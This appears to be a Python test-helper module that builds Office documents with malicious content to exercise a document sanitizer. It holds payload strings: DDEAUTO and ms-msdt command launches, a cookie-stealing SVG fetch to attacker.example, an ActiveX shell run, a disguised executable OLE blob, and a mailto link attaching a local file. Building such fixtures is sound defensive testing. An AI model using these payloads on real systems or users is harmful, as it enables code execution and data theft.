"""What the Office builders share: relationship types, payload strings, and helpers that add parts."""

from __future__ import annotations

import posixpath
from pathlib import PurePosixPath

from tests import office_builders as base

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

DOCUMENT_RELS = "word/_rels/document.xml.rels"

SETTINGS_RELS = "word/_rels/settings.xml.rels"

SHEET = "xl/worksheets/sheet1.xml"

SLIDE = "ppt/slides/slide1.xml"

SLIDE_RELS = "ppt/slides/_rels/slide1.xml.rels"

CALC = r"c:\\windows\\system32\\cmd.exe"

DDEAUTO = f'DDEAUTO {CALC} "/k calc.exe"'

MSDT = (
    'ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu '
    'IT_BrowseForFile=$(calc)i/../../../../../../../../../../../../../Windows/System32/mpsigstub.exe"'
)

MHTML = "mhtml:http://attacker.example/ole.html!x-usc:http://attacker.example/ole.html"

SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    "<script>fetch('http://attacker.example/'+document.cookie)</script></svg>"
)

HTML_SCRIPT = (
    "<html><body><p>お知らせ</p><script>new ActiveXObject('WScript.Shell').Run('calc')</script></body></html>"
)


def add_part(
    package: base.Package,
    part: str,
    data: bytes | str,
    content_type: str,
    rels: str,
    rel_id: str,
    rel_type: str,
) -> None:
    """A new part, its content type and the relationship that reaches it (target relative to `rels`' owner)."""
    package.put(part, data)
    package.content_type("/" + part, content_type)
    owner = str(PurePosixPath(rels).parent.parent)
    package.add_rel(rels, rel_id, rel_type, posixpath.relpath(part, owner) if owner != "." else part)


def with_customui(package: base.Package) -> bytes:
    package.put(
        "customUI/customUI14.xml",
        '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoRun">'
        '<ribbon><tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="b" onAction="Run"/>'
        "</group></tab></tabs></ribbon></customUI>",
    )
    package.add_rel(
        "_rels/.rels",
        "rIdUi",
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml",
    )
    return package.bytes()


def vba_everywhere(package: base.Package, folder: str, rels: str, main_old: str, main_new: str) -> bytes:
    """[MS-OFFMACRO] §2.2: vbaProject part, its vbaData and key-map customisations."""
    package.put(f"{folder}/vbaProject.bin", base.real_vba_project())
    package.add_rel(rels, "rIdVba", MS_RT + "vbaProject", "vbaProject.bin")
    package.content_type(f"/{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    package.main_type(main_old, main_new)
    return package.bytes()


def packager_ole1() -> bytes:
    # Not a valid CFB on purpose: whatever it is, an embedding must not cross.
    return b"\x02\x00invoice.exe\x00C:\\Temp\\invoice.exe\x00" + b"MZ\x90\x00" + b"\x00" * 200


MAILTO_ATTACH = (
    "mailto:soumu@town.example.lg.jp?subject=report&attach=C:\\Users\\Public\\Documents\\secret.xlsx"
)
